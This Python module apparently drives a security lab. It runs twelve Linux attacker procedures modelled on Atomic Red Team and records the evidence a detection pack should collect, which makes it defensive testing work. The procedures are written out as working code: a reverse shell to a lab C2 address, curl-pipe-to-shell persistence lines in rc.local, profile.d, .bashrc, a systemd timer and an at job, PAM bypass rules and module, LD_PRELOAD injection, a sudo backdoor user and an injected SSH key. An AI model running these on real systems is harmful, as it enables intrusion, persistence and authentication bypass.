"""Second set of real attacker procedures (the `v2-` scenarios), each modelled on an Atomic Red Team
Linux test (read in redcanaryco/atomic-red-team; the commands are our own, nothing vendored) and
leaving durable state the Diffy pack collects.  Each returns its truth evidence: the rows of the pack
it creates ({query, kind, match}); the builder checks them against the collected run.

Only per-host paths are written (hostexec.PER_HOST) plus the host's private /dev/shm and
/var/spool/cron (noise_v2.private_mounts).  Payload addresses are the lab's own C2 stand-in (a
listener in the lab namespace, see fleet_v2) or TEST-NET-3, never routed."""

from __future__ import annotations

import base64
import shlex
from collections.abc import Callable
from typing import Any

from diffy_lab import Lab, LabHost
from diffy_lab.spec import gateway

from .attacks import C2, Attack
from .hostexec import sh, spawn
from .noise_v2 import APP_UID, check_private

Evidence = dict[str, Any]
C2_PORT = 443


def _ev(query: str, **match: str) -> Evidence:
    return {"query": query, "kind": "added", "match": match}


def _sha256(host: LabHost, path: str) -> str:
    return sh(host, f"sha256sum {shlex.quote(path)}").split()[0]


def c2_address(lab: Lab) -> str:
    """The lab namespace's bridge address: where the C2 stand-in listens (fleet_v2.c2_listener)."""
    return gateway(lab.config.subnet).split("/")[0]


def _reverse_shell_code(address: str, port: int) -> str:
    return (
        f"import socket,subprocess;s=socket.create_connection(('{address}',{port}));"
        "subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)"
    )


def reverse_shell(lab: Lab, host: LabHost, port: int = C2_PORT) -> list[Evidence]:
    """A reverse shell calling home (the /dev/tcp reverse-shell pattern of ART T1611 "Mount host
    filesystem to escape privileged Docker container", as a T1059.004 Unix-shell payload): a shell
    whose stdin/stdout are a TCP connection to the C2, visible as an ESTABLISHED outbound socket."""
    address = c2_address(lab)
    spawn(host, f"/usr/bin/python3 -c {shlex.quote(_reverse_shell_code(address, port))}", cwd="/tmp")
    return [_ev("process_open_sockets", remote_address=address, remote_port=str(port))]


def rc_local(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1037.004 "rc.local": a boot script that starts a base64-wrapped Python payload."""
    payload = base64.b64encode(_reverse_shell_code(c2_address(lab), C2_PORT).encode()).decode()
    text = f"#!/bin/sh -e\npython3 -c \"import base64;exec(base64.b64decode('{payload}'))\" &\nexit 0\n"
    sh(host, f"printf %s {shlex.quote(text)} > /etc/rc.local && chmod 0755 /etc/rc.local")
    return [_ev("boot_persistence", path="/etc/rc.local")]


def profile_d(lab: Lab, host: LabHost, name: str = "01-locale-fix.sh") -> list[Evidence]:
    """T1546.004 "System shell profile scripts": a script in /etc/profile.d that every login shell
    sources, fetching and running a payload for root."""
    path = f"/etc/profile.d/{name}"
    line = f'[ "$(id -u)" = 0 ] && (curl -fsSL http://{C2}/p.sh | sh >/dev/null 2>&1 &)'
    sh(host, f"echo {shlex.quote(line)} > {path} && chmod 0644 {path}")
    return [_ev("shell_profiles", path=path)]


def bashrc_append(lab: Lab, host: LabHost, path: str = "/root/.bashrc") -> list[Evidence]:
    """T1546.004 "Add command to .bashrc": a command appended to root's .bashrc (the file exists on
    every host: the evidence is its new content hash)."""
    line = f"(nohup curl -fsSL http://{C2}/b.sh 2>/dev/null | sh >/dev/null 2>&1 &)"
    sh(host, f"echo {shlex.quote(line)} >> {path}")
    return [_ev("shell_profiles", path=path, sha256=_sha256(host, path))]


def systemd_timer(lab: Lab, host: LabHost, name: str = "apt-daily-cache") -> list[Evidence]:
    """T1053.006 "Create Systemd Service and Timer": a service and a timer in /etc/systemd/system,
    the timer enabled by its timers.target.wants link (no systemd runs in the lab, so nothing
    starts it; the unit files are the durable state)."""
    payload = f"/var/tmp/.{name}/sync"
    unit = f"/etc/systemd/system/{name}"
    sh(
        host,
        f"mkdir -p /var/tmp/.{name} /etc/systemd/system/timers.target.wants\n"
        f"printf '#!/bin/sh\\ncurl -fsSL http://{C2}/t.sh | sh\\n' > {payload} && chmod 0755 {payload}\n"
        "printf '[Unit]\\nDescription=Daily apt cache sync\\n[Service]\\nType=oneshot\\n"
        f"ExecStart={payload}\\n' > {unit}.service\n"
        "printf '[Unit]\\nDescription=Daily apt cache sync timer\\n[Timer]\\nOnCalendar=*:0/15\\n"
        f"Persistent=true\\n[Install]\\nWantedBy=timers.target\\n' > {unit}.timer\n"
        f"ln -sf {unit}.timer /etc/systemd/system/timers.target.wants/{name}.timer\n",
    )
    return [
        _ev("boot_persistence", path=f"{unit}.timer"),
        _ev("boot_persistence", path=f"/etc/systemd/system/timers.target.wants/{name}.timer"),
    ]


def pam_rule(lab: Lab, host: LabHost, path: str = "/etc/pam.d/su-l") -> list[Evidence]:
    """T1556.003 "Malicious PAM rule": a first line that lets any uid authenticate."""
    sh(host, f"sed -i '1s,^,auth sufficient pam_succeed_if.so uid >= 0\\n,' {path}")
    return [_ev("auth_config_files", path=path, sha256=_sha256(host, path))]


def pam_module(
    lab: Lab, host: LabHost, module: str = "/tmp/.pam_sess.so", path: str = "/etc/pam.d/common-auth"
) -> list[Evidence]:
    """T1556.003 "Malicious PAM module": a module built on the host whose authenticate hook always
    says yes (PAM_SUCCESS), named first in a PAM stack.  Harmless here: lab sshd runs UsePAM no."""
    src = "/tmp/pam_sess.c"
    sh(
        host,
        f"echo 'int pam_sm_authenticate(void *h, int f, int c, const char **v) {{ return 0; }}' > {src}\n"
        f"gcc -shared -fPIC -o {module} {src} && rm -f {src} && chmod 0755 {module}\n"
        f"sed -i '1s,^,auth sufficient {module}\\n,' {path}\n",
        timeout=60,
    )
    return [
        _ev("staging_files", path=module),
        _ev("auth_config_files", path=path, sha256=_sha256(host, path)),
    ]


def at_job(lab: Lab, host: LabHost, job: str = "a0001a01c3f2e8") -> list[Evidence]:
    """T1053.002 "At - Schedule a job": a queued job in atd's spool, written as at(1) writes it
    (its own header, the environment, then the command; mode 0700).  at is not installed here, so
    the spool file is written directly into the host's private /var/spool/cron."""
    check_private(host)
    path = f"/var/spool/cron/atjobs/{job}"
    text = (
        "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
        "PATH=/usr/sbin:/usr/bin:/sbin:/bin; export PATH\n"
        "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
        f"curl -fsSL http://{C2}/a.sh | sh\n"
    )
    sh(host, f"printf %s {shlex.quote(text)} > {path} && chmod 0700 {path} && chgrp daemon {path}")
    return [_ev("boot_persistence", path=path)]


def hidden_exec_shm(lab: Lab, host: LabHost, path: str = "/dev/shm/.x11-cache") -> list[Evidence]:
    """T1564.001 "Create a hidden file in a hidden directory", done as intruders do in /dev/shm: a
    dot-named ELF (built on the host, harmless: it only sleeps) dropped in memory-backed storage and
    left running."""
    check_private(host)
    src = "/tmp/shm_agent.c"
    sh(
        host,
        f"echo '#include <unistd.h>\nint main(void) {{ for (;;) sleep(600); }}' > {src}\n"
        f"gcc -O1 -o {path} {src} && rm -f {src} && chmod 0755 {path}\n",
        timeout=60,
    )
    spawn(host, path, cwd="/dev/shm")
    return [_ev("staging_files", path=path), _ev("processes", path=path)]


def ld_preload_env(
    lab: Lab, host: LabHost, lib: str = "/var/tmp/.fontconfig/libfc-cache.so"
) -> list[Evidence]:
    """T1574.006 "Shared Library Injection via LD_PRELOAD": a long-running process started with an
    attacker library in LD_PRELOAD (built on the host, harmless: it only defines a symbol)."""
    directory = lib.rsplit("/", 1)[0]
    sh(
        host,
        f"mkdir -p {directory} && echo 'int __fc_hook = 1;' > {directory}/h.c\n"
        f"gcc -shared -fPIC -o {lib} {directory}/h.c && rm -f {directory}/h.c\n",
        timeout=60,
    )
    spawn(host, f"env LD_PRELOAD={lib} /usr/bin/python3 -c 'import time; time.sleep(10**8)'", cwd="/var/tmp")
    return [_ev("process_envs", key="LD_PRELOAD", value=lib)]


def sudo_group_user(lab: Lab, host: LabHost, name: str = "svc-monitor", uid: int = 1002) -> list[Evidence]:
    """T1136.001 "Create a user account on a Linux system", then added to the sudo group (account
    manipulation for privilege): written into the host's passwd/shadow/group directly (useradd
    would also write the machine's shared /var/log/faillog and lastlog)."""
    hashed = sh(host, "openssl passwd -6 -salt Zr4pQ 'Monitor#2026'").strip()
    sh(
        host,
        f"echo {shlex.quote(f'{name}:x:{uid}:{uid}:monitoring:/home/{name}:/bin/bash')} >> /etc/passwd\n"
        f"echo {shlex.quote(f'{name}:{hashed}:20424:0:99999:7:::')} >> /etc/shadow\n"
        f"echo '{name}:x:{uid}:' >> /etc/group\n"
        f'awk -F: -v OFS=: -v u={name} \'$1 == "sudo" {{ $4 = ($4 == "" ? u : $4 "," u) }} 1\' /etc/group'
        " > /tmp/group.new && cat /tmp/group.new > /etc/group && rm -f /tmp/group.new\n"
        f"mkdir -p /home/{name} && cp /etc/skel/.bashrc /home/{name}/ && chown -R {uid}:{uid} /home/{name}\n",
    )
    return [_ev("users", username=name, uid=str(uid)), _ev("user_groups", username=name, groupname="sudo")]


def app_user_key(lab: Lab, host: LabHost) -> list[Evidence]:
    """T1098.004 "Modify SSH Authorized Keys", on the app's service account instead of root: the
    attacker's key appended next to the CI deploy key every host has."""
    algorithm, key, comment = lab.attacker_key.with_suffix(".pub").read_text().split()[:3]
    sh(
        host,
        f"echo {shlex.quote(f'{algorithm} {key} {comment}')} >> /home/app/.ssh/authorized_keys && "
        f"chown {APP_UID}:{APP_UID} /home/app/.ssh/authorized_keys",
    )
    return [_ev("authorized_keys", username="app", key=key)]


PROCEDURES: dict[str, Callable[..., list[Evidence]]] = {
    "reverse_shell": reverse_shell,
    "rc_local": rc_local,
    "profile_d": profile_d,
    "bashrc_append": bashrc_append,
    "systemd_timer": systemd_timer,
    "pam_rule": pam_rule,
    "pam_module": pam_module,
    "at_job": at_job,
    "hidden_exec_shm": hidden_exec_shm,
    "ld_preload_env": ld_preload_env,
    "sudo_group_user": sudo_group_user,
    "app_user_key": app_user_key,
}


def apply(lab: Lab, host: LabHost, attack: Attack) -> list[Evidence]:
    return PROCEDURES[attack.artifact](lab, host, **attack.params)
